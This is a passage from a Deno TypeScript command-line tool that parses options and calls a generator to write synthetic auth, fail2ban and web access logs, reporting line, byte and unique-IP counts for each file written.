  return Math.round(Number(match[1]) * unit);
}

/** Runs the command line; returns the exit code. Diagnostics go to stderr. */
export async function main(args: readonly string[]): Promise<number> {
  let values;
  try {
    ({ values } = parseArgs({
      args: [...args],
      options: {
        sample: { type: "string" },
        "auth-lines": { type: "string" },
        "fail2ban-lines": { type: "string" },
        "access-lines": { type: "string" },
        out: { type: "string" },
        seed: { type: "string" },
        "home-country": { type: "string" },
        help: { type: "boolean", short: "h" },
      },
      strict: true,
      allowPositionals: false,
    }));
  } catch (error) {
    console.error(`${(error as Error).message}\n\n${USAGE}`);
    return 2;
  }
  if (values.help) {
    console.error(USAGE);
    return 0;
  }
  try {
    const written = await generateLogs({
      sample: values.sample,
      authLines: parseCount("auth-lines", values["auth-lines"]),
      fail2banLines: parseCount("fail2ban-lines", values["fail2ban-lines"]),
      accessLines: parseCount("access-lines", values["access-lines"]),
      out: values.out,
      seed: values.seed === undefined ? undefined : Number(values.seed),
      homeCountry: values["home-country"],
    });
    let lines = 0;
    let bytes = 0;
    for (const w of written) {
      lines += w.lines;
      bytes += w.bytes;
      const unique = w.uniqueIps === undefined ? "" : `, ${w.uniqueIps} unique client IPs`;
      console.error(`wrote ${w.path}: ${w.lines} lines, ${w.bytes} bytes${unique}`);
    }
    const seconds = written[0]?.seconds ?? 0;
    console.error(
      `total: ${written.length} file(s), ${lines} lines, ${bytes} bytes in ${
        seconds.toFixed(2)
      } s (${Math.round(lines / Math.max(seconds, 1e-6)).toLocaleString("en-US")} lines/s)`,
    );
    return 0;
  } catch (error) {
    if (error instanceof TypeError || error instanceof RangeError) {
      console.error(`${error.message}\n\n${USAGE}`);
      return 2;
    }
    throw error;
  }
}

if (import.meta.main) Deno.exit(await main(Deno.args));
